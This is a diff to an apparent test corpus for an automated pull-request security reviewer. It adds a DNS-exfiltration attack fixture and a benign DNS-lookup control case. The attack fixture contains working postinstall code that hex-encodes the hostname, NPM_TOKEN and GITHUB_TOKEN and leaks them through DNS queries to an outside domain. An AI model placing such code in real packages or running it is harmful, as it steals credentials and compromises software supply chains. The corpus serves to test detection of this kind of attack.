@@ -1742,4 +1742,47 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
   },
+  {
+    id: 'attack-dns-exfiltration-install-script',
+    description:
+      'A postinstall "environment check" (the shape of the dependency-confusion beacons and of npm stealers that avoid HTTP) hex-encodes the environment and sends it in the labels of DNS lookups of an ordinary-looking domain.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7602,
+        title: 'build: check the environment after install',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/check-env.js',
+            base: null,
+            head: lines(
+              "'use strict';",
+              "const dns = require('dns');",
+              '',
+              "const payload = Buffer.from(JSON.stringify({ h: require('os').hostname(), t: process.env.NPM_TOKEN, g: process.env.GITHUB_TOKEN })).toString('hex');",
+              'for (let i = 0; i < payload.length; i += 60) {',
+              '  dns.resolve4(`${payload.slice(i, i + 60)}.${i / 60}.edge-resolve.net`, () => {});',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dns-exfiltration'], drivers: ['finding:dns-exfiltration'] },
+  },
+  {
+    id: 'attack-dns-lookups-ordinary',
+    description: 'A maintainer adds a wait-for-database script that resolves the service name in the cluster and a test that a random, unregistered name fails to resolve.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7603,
+        title: 'test: wait for the database; cover NXDOMAIN',
+        files: [
+          { path: 'scripts/wait-for-db.sh', base: null, head: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'for i in $(seq 1 30); do', '  if dig +short "${DB_SERVICE:-postgres}.${NAMESPACE}.svc.cluster.local" | grep -q .; then exit 0; fi', '  sleep 2', 'done', 'exit 1') },
+          { path: 'test/resolve.test.js', base: null, head: lines("const assert = require('node:assert');", "const dns = require('node:dns');", "const crypto = require('node:crypto');", '', "it('fails on a name that does not exist', async () => {", "  await assert.rejects(dns.promises.resolve4(`${crypto.randomBytes(12).toString('hex')}.nxdomain.tint.dev`));", '});') },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:dns-exfiltration'] },
+  },
 ];
